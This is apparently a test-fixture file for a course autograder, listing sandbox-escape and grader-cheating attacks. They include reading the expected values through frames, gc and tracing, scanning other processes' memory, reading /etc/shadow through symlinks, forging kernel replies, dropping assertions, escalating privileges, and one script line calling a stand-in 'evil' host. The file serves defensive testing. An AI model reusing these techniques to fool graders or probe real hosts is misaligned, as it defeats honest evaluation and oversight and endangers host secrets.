"""Attacks on the sandbox: hidden tests, the seed, other processes, the network, host files."""

from tests.support.engine import SECRET, Attack

_ZERO = (0, 0, 1)
_ALL = (1, 1, 1)
# Split, so that a search for this text does not find the attack itself.
_NEEDLE = f"needle = {SECRET[:10]!r} + {SECRET[10:]!r}\n"

ESCAPES = [
    Attack(
        "hidden values are looked for in the callers' frames",
        _ZERO,
        add="import sys\n"
        "def add(a, b):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        for space in (frame.f_locals, frame.f_globals):\n"
        "            if 'expected' in space: return space['expected']\n"
        "        frame = frame.f_back\n"
        "    return 0\n",
    ),
    Attack(
        "hidden tests are looked for with gc",
        _ZERO,
        add=_NEEDLE + "import gc\n"
        "def add(a, b):\n"
        "    for thing in gc.get_objects():\n"
        "        if isinstance(thing, dict) and 'expected' in thing: return thing['expected']\n"
        "        if isinstance(thing, str) and needle in thing: return a + b\n"
        "    return 0\n",
    ),
    Attack(
        "hidden tests are looked for in the memory of all processes",
        _ZERO,
        add=_NEEDLE + "import os, re\n"
        "def found():\n"
        "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "        if int(pid) == os.getpid() or os.path.realpath('/proc/self').endswith(pid):\n"
        "            continue\n"
        "        try:\n"
        "            maps = open(f'/proc/{pid}/maps').read()\n"
        "            memory = open(f'/proc/{pid}/mem', 'rb')\n"
        "        except OSError: continue\n"
        "        if maps: return True\n"
        "    return False\n"
        "def add(a, b):\n    return a + b if found() else 0\n",
    ),
    Attack(
        "the seed is looked for in all environments",
        _ZERO,
        add="import os\n"
        "def seed():\n"
        "    if 'RNN_COURSE_SEED' in os.environ: return True\n"
        "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "        try: text = open(f'/proc/{pid}/environ', 'rb').read()\n"
        "        except OSError: continue\n"
        "        if b'RNN_COURSE_SEED' in text: return True\n"
        "    return False\n"
        "def add(a, b):\n    return a + b if seed() else 0\n",
    ),
    Attack(
        "hidden tests are looked for in all files",
        _ZERO,
        add=_NEEDLE + "import os\n"
        "def found():\n"
        "    for top in ('/home', '/tmp', '/run', '/dev/shm', '/etc', '/root', '/work', '/mnt'):\n"
        "        for folder, folders, names in os.walk(top):\n"
        "            folders[:] = [f for f in folders if f not in ('.venv', '.pyenv')]\n"
        "            for name in names:\n"
        "                path = os.path.join(folder, name)\n"
        "                if '/solutions/' in path or '/tests/' in path: return True\n"
        "                try:\n"
        "                    if os.path.isfile(path) and needle in open(path).read(): return True\n"
        "                except (OSError, UnicodeDecodeError): pass\n"
        "    return False\n"
        "def add(a, b):\n    return a + b if found() else 0\n",
    ),
    Attack(
        "other kernels' connection files and sockets are looked for",
        _ZERO,
        add="import glob, os, socket\n"
        "mine = {f'/run/kernel/k-{i}' for i in (1, 2, 3, 4, 5, 'output')}\n"
        "def others():\n"
        "    found = set(glob.glob('/run/**/k-*', recursive=True)) - mine\n"
        "    found |= {line.split()[-1] for line in open('/proc/net/unix')\n"
        "              if '/k-' in line or 'rnn-' in line} - mine\n"
        "    return found\n"
        "def add(a, b):\n    return a + b if others() else 0\n",
    ),
    Attack(
        "descriptors that were left open are read and written",
        _ZERO,
        add="import os, select\n"
        "def add(a, b):\n"
        "    for name in os.listdir('/proc/self/fd'):\n"
        "        target = os.readlink(f'/proc/self/fd/{name}') if os.path.exists(\n"
        "            f'/proc/self/fd/{name}') else ''\n"
        "        if target.startswith(('/work', '/root', '/tmp/rnn-', '/home/')):\n"
        "            return a + b\n"
        "    return 0\n",
    ),
    Attack(
        "replies and outputs are forged on the kernel's own sockets",
        _ZERO,
        add="kernel = get_ipython().kernel\n"
        "parent = kernel.get_parent()\n"
        "for kind, content in (\n"
        "    ('status', {'execution_state': 'idle'}),\n"
        "    ('execute_result', {'data': {'text/plain': '1.0'}, 'metadata': {},\n"
        "                        'execution_count': 1}),\n"
        "    ('stream', {'name': 7, 'text': ['x']}),\n"
        "    ('display_data', {'data': {'text/plain': {'a': 1}}, 'metadata': 3}),\n"
        "    ('error', {'ename': None, 'evalue': 5, 'traceback': 'x'}),\n"
        "    ('display_data', 'no dict'),\n"
        "):\n"
        "    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)\n"
        "def add(a, b):\n    return 0\n",
    ),
    Attack(
        "unsigned and broken messages are sent on the kernel's own sockets",
        _ZERO,
        add="kernel = get_ipython().kernel\n"
        "deep = b'[' * 100_000\n"
        "mark = b'<IDS|MSG>'\n"
        "for parts in ([b'x'], [mark], [mark, b'bad', b'{}', b'{}', b'{}', b'{}'],\n"
        "              [mark, b'', deep, deep, deep, deep]):\n"
        "    kernel.iopub_thread.send_multipart(parts)\n"
        "key, kernel.session.key = kernel.session.key, b'wrong'\n"
        "print('signed with a wrong key')\n"
        "import sys; sys.stdout.flush()\n"
        "kernel.session.key = key\n"
        "def add(a, b):\n    return 0\n",
    ),
    Attack(
        "answers are forged on the connection that calls cross on",
        _ZERO,
        add="from autograder.engine.kernels import callee\n"
        "from autograder.engine.wire import codec as wire, frames\n"
        "def add(a, b):\n"
        "    for number in range(1, 40):\n"
        "        kind = frames.FrameKind\n"
        "        forged = frames.Frame(kind.NOTICE, number, wire.encode('passed'))\n"
        "        callee._Server.socket.sendall(forged.dumps())\n"
        "        forged = frames.Frame(kind.REQUEST, number, wire.encode(('call', 'x')))\n"
        "        callee._Server.socket.sendall(forged.dumps())\n"
        "    return 0\n",
        verdict=None,
    ),
    Attack(
        "garbage is written to the connection that calls cross on",
        _ZERO,
        add="from autograder.engine.kernels import callee\n"
        "def add(a, b):\n"
        "    callee._Server.socket.sendall(b'\\xff' * 4096)\n"
        "    return a + b\n",
        verdict="kernel_died",
    ),
    Attack(
        "the engine's encoder is patched to send what is no value",
        _ZERO,
        add="from autograder.engine.wire import codec as wire\n"
        "import struct\n"
        "nested = b'[\"l\",[' * 50_000 + b']]' * 50_000\n"
        "broken = [b'', b'RNW1', b'RNW1' + struct.pack('<I', 2**31),\n"
        "          b'RNW1' + struct.pack('<I', len(nested)) + nested + bytes(4)]\n"
        "def add(a, b):\n"
        "    wire.encode = lambda *a, **k: broken[a[0].get('stdout') is None]\n"
        "    return a + b\n",
        scale="def scale(x, k):\n    wire.encode = real\n    return x * k\n",
        after=("import importlib\nimportlib.reload(wire)\nreal = wire.encode\n",),
        verdict=None,
    ),
    Attack(
        "an array whose header declares a petabyte",
        _ZERO,
        verdict="needs_person",
        add="from autograder.engine.wire import codec as wire\n"
        "import io, struct\n"
        "header = b\"{'descr': '<f8', 'fortran_order': False, 'shape': (99999, 99999999), }\\n\"\n"
        "npy = b'\\x93NUMPY\\x01\\x00' + struct.pack('<H', len(header)) + header\n"
        "real = wire.encode\n"
        "def add(a, b):\n"
        '    text = b\'["d",[["value",["a",0]],["stdout",""],["stderr",""]]]\'\n'
        "    message = b'RNW1' + struct.pack('<I', len(text)) + text\n"
        "    message += struct.pack('<IQ', 1, len(npy))\n"
        "    wire.encode = lambda *a, **k: message + npy\n"
        "    return 0\n",
        after=("wire.encode = real\n",),
    ),
    Attack(
        "IPython's hooks and transformers drop assertions",
        _ZERO,
        add="import ast\n"
        "class Drop(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "shell = get_ipython()\n"
        "shell.ast_transformers.append(Drop())\n"
        "drop = lambda lines: ['pass\\n'] if 'assert' in str(lines) else lines\n"
        "shell.input_transformers_post.append(drop)\n"
        "shell.events.register('post_run_cell', lambda *a: None)\n"
        "shell.set_custom_exc((Exception,), lambda *a, **k: None)\n"
        "def add(a, b):\n    return 0\n",
    ),
    Attack(
        "sys.settrace and sys.setprofile watch the tests",
        _ZERO,
        add="import sys\n"
        "seen = {}\n"
        "def watch(frame, event, argument):\n"
        "    seen.update(frame.f_locals)\n"
        "    return watch\n"
        "sys.settrace(watch)\n"
        "sys.setprofile(watch)\n"
        "def add(a, b):\n    return seen.get('expected', 0)\n",
    ),
    Attack(
        "a number is left as the last output, for partial credit",
        _ZERO,
        verdict="needs_person",
        add="from IPython.display import display\n"
        "import sys\n"
        "class One:\n    def __repr__(self): return '1.0'\n"
        "def add(a, b):\n"
        "    display(One()); print('1.0'); sys.displayhook(1.0)\n"
        "    get_ipython().display_pub.publish({'text/plain': '1.0'})\n"
        "    return One()\n",
    ),
    Attack(
        "outputs of tests are cleared and updated from the student's side",
        _ZERO,
        add="from IPython.display import clear_output, display, update_display\n"
        "def add(a, b):\n"
        "    clear_output(); display(1.0, display_id='check')\n"
        "    return 0\n",
        after=(
            "for name in ('check', 'record', '1'): update_display(1.0, display_id=name)\n"
            "clear_output(wait=True)\n",
        ),
    ),
    Attack(
        "records of passed checks are forged",
        _ZERO,
        add="def add(a, b):\n"
        "    get_ipython().display_pub.publish(\n"
        "        {'application/vnd.rnn-course.check+json': {'passed': True}, 'text/plain': 'ok'})\n"
        "    return 0\n",
    ),
    Attack(
        "the network is called",
        _ZERO,
        add="import socket\n"
        "def reached():\n"
        "    for address in (('1.1.1.1', 53), ('8.8.8.8', 443), ('10.0.0.1', 80),\n"
        "                    ('127.0.0.1', 22), ('127.0.0.1', 8786)):\n"
        "        try:\n"
        "            socket.create_connection(address, timeout=0.3).close()\n"
        "            return True\n"
        "        except OSError: pass\n"
        "    try: socket.getaddrinfo('example.org', 80); return True\n"
        "    except OSError: return False\n"
        "def add(a, b):\n    return a + b if reached() else 0\n",
    ),
    Attack(
        "the host's files are read, also through links",
        _ZERO,
        add="import os\n"
        "def read():\n"
        "    for path in ('/etc/shadow', '/etc/passwd', '/etc/hostname', '/root/.bashrc',\n"
        "                 '/srv/course/pyproject.toml', '/proc/1/root/etc/passwd',\n"
        "                 '/proc/1/cwd/etc/shadow', '/var/log', '/var/lib', '/sys/kernel'):\n"
        "        link = f'/tmp/link{abs(hash(path))}'\n"
        "        os.path.lexists(link) or os.symlink(path, link)\n"
        "        try: os.listdir(link) if os.path.isdir(link) else open(link).read()\n"
        "        except OSError: continue\n"
        "        return True\n"
        "    return False\n"
        "def add(a, b):\n    return a + b if read() else 0\n",
    ),
    Attack(
        "files that the grading kernel imports are overwritten",
        _ZERO,
        add="import os, sys\n"
        "import numpy.testing, autograder.engine.kernels.proxies as proxies\n"
        "for path in (np.testing.__file__, proxies.__file__, sys.executable, os.__file__):\n"
        "    for change in (lambda: open(path, 'a').write('#'), lambda: os.remove(path),\n"
        "                   lambda: os.chmod(path, 0o777), lambda: os.rename(path, path + 'x')):\n"
        "        try: change()\n"
        "        except OSError: continue\n"
        "        def add(a, b): return a + b\n"
        "        break\n"
        "    else: continue\n"
        "    break\n"
        "else:\n"
        "    def add(a, b): return 0\n",
    ),
    Attack(
        "further namespaces, mounts and debuggers are asked for",
        _ZERO,
        add="import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def gained():\n"
        "    if libc.unshare(0x10000000) == 0: return True\n"
        "    if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: return True\n"
        "    if libc.umount2(b'/run/rnn', 2) == 0: return True\n"
        "    if libc.ptrace(16, 1, 0, 0) == 0: return True\n"
        "    try:\n"
        "        if libc.setns(os.open('/proc/1/ns/mnt', os.O_RDONLY), 0) == 0: return True\n"
        "    except OSError: pass\n"
        "    stack = ctypes.create_string_buffer(1 << 16)\n"
        "    entry = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda _: 0)\n"
        "    top = ctypes.c_void_p(ctypes.addressof(stack) + (1 << 16) - 64)\n"
        "    return libc.clone(entry, top, 0x10000000 | 17, None) > 0\n"
        "def add(a, b):\n    return a + b if gained() else 0\n",
    ),
    Attack(
        "system calls are asked for that no exercise needs",
        _ZERO,
        add="import ctypes, platform, socket\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "numbers = {'x86_64': [154, 447, 444, 462, 323, 425, 321, 298, 317, 206, 29, 240, 253],\n"
        "           'aarch64': [447, 444, 462, 282, 425, 280, 241, 277, 0, 194, 180, 26]}\n"
        "def gained():\n"
        "    for number in numbers[platform.machine()]:\n"
        "        libc.syscall(number, 0, 0, 0, 0, 0, 0)\n"
        "        if ctypes.get_errno() not in (1, 38): return True\n"
        "    for kind in ((40, 1, 0), (38, 5, 0), (17, 3, 0), (16, 3, 4), (2, 5, 132)):\n"
        "        try: socket.socket(*kind)\n"
        "        except OSError as error:\n"
        "            if error.errno == 1: continue\n"
        "        return True\n"
        "    return False\n"
        "def add(a, b):\n    return a + b if gained() else 0\n",
    ),
    Attack(
        "text is typed into a terminal, and others' terminals are looked for",
        _ZERO,
        add="import fcntl, os, pty\n"
        "def gained():\n"
        "    if any(name.isdigit() for name in os.listdir('/dev/pts')): return True\n"
        "    ours, theirs = pty.openpty()\n"
        "    if os.ttyname(theirs) != '/dev/pts/0': return True\n"
        "    for request in (0x5412, 0x541C, 0x5423):\n"
        "        try: fcntl.ioctl(theirs, request, bytes(8))\n"
        "        except PermissionError: continue\n"
        "        return True\n"
        "    os.close(ours); os.close(theirs)\n"
        "    return False\n"
        "def add(a, b):\n    return a + b if gained() else 0\n",
    ),
    Attack(
        "privileges are asked for",
        _ZERO,
        add="import os, subprocess\n"
        "def gained():\n"
        "    for change in (lambda: os.setuid(0), lambda: os.setgid(0),\n"
        "                   lambda: os.chroot('/tmp'), lambda: os.setgroups([0]),\n"
        "                   lambda: os.mknod('/tmp/disk', 0o60666, 0x801)):\n"
        "        try: change()\n"
        "        except OSError: continue\n"
        "        return True\n"
        "    status = dict(l.split(':', 1) for l in open('/proc/self/status'))\n"
        "    return any(int(status[c], 16) for c in ('CapEff', 'CapPrm', 'CapBnd', 'CapAmb'))\n"
        "def add(a, b):\n    return a + b if gained() else 0\n",
    ),
    Attack(
        "a locked function is replaced in the student's kernel",
        _ZERO,
        add="import autograder.engine.kernels.proxies, rnn_helpers, sys\n"
        "autograder.engine.kernels.proxies._merged = lambda *a: None\n"
        "autograder.engine.kernels.proxies.Caller.call = lambda *a: 3\n"
        "sys.modules['numpy.testing'] = None\n"
        "def add(a, b):\n    return 0\n"
        "add.__rnn_student_side__ = True\n",
    ),
    Attack(
        "scripts, escape sequences and lone surrogates in outputs are nothing but data",
        _ALL,
        before=(
            "from IPython.display import HTML, Javascript, display\n"
            "display(HTML('<script>fetch(\"http://evil\")</script>'), Javascript('alert(1)'))\n"
            "print('\\x1b]0;owned\\x07\\x1b[2J\\ud800')\n"
            "display({'\\ud800': '\\ud800', 'application/json': {'\\ud800': [1e999]}}, raw=True)\n",
        ),
    ),
]
